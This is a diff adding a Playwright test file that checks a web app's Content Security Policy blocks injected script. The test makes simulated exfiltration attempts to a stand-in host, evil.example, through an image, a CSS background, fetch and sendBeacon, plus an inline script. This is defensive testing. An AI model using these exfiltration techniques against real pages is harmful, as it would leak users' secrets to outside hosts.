@@ -1,0 +1,72 @@
+import type { Page } from '@playwright/test';
+import { expect, test } from './fixtures';
+import { ShellHost } from './support/shell-host';
+
+const evil = 'https://evil.example';
+
+/** What a script that got into the page would try, and what the browser says to each. */
+const tries = (page: Page) =>
+  page.evaluate(async (host) => {
+    // The header and the page each say no.
+    const blocked = new Set<string>();
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
+      blocked.add(`${effectiveDirective} ${blockedURI}`);
+    });
+    new Image().src = `${host}/picture?secret=1`;
+    document.body.style.backgroundImage = `url(${host}/style?secret=1)`;
+    await fetch(`${host}/request?secret=1`).catch(() => undefined);
+    navigator.sendBeacon(`${host}/beacon?secret=1`);
+    document.body.append(Object.assign(document.createElement('script'), { textContent: 'void 0' }));
+    while (blocked.size < 5) await new Promise((resolve) => requestAnimationFrame(resolve));
+    return [...blocked].map((text) => text.replace(/\?.*/, '')).sort();
+  }, evil);
+
+const refused = [
+  `connect-src ${evil}/beacon`,
+  `connect-src ${evil}/request`,
+  `img-src ${evil}/picture`,
+  `img-src ${evil}/style`,
+  'script-src-elem inline',
+];
+
+/** The browser's own log of it. */
+const log = [/evil\.example/, /security policy: /i, /Content Security Policy/i];
+
+for (const path of ['/', '/login']) {
+  test(`[B3] nothing leaves ${path} for a host nobody named`, async ({ page, watch }) => {
+    watch.allow(...log);
+    await page.goto(path);
+    expect(await tries(page)).toEqual(refused);
+  });
+
+  test(`[B3] nor on a host that sends no headers: the page ${path} carries the policy itself`, async ({
+    page,
+    watch,
+  }) => {
+    const host = new ShellHost('silent');
+    const url = await host.start();
+    watch.allow(...log, new RegExp(`request to a foreign host: ${url}`));
+    try {
+      const answer = await page.goto(`${url}${path.slice(1)}`);
+      expect(answer?.headers()['content-security-policy']).toBeUndefined();
+      expect(await tries(page)).toEqual(refused);
+    } finally {
+      await host.remove();
+    }
+  });
+}
+
+test('[B3] a page without headers works: no part of it is refused by its own policy', async ({ page, watch }) => {
+  const host = new ShellHost('silent');
+  const url = await host.start();
+  watch.allow(new RegExp(`request to a foreign host: ${url}`));
+  try {
+    await page.goto(url);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await page.goto(`${url}login`);
+    await expect(page.getByRole('button', { name: 'Login' })).toBeVisible();
+    expect(watch.complaints()).toEqual([]);
+  } finally {
+    await host.remove();
+  }
+});
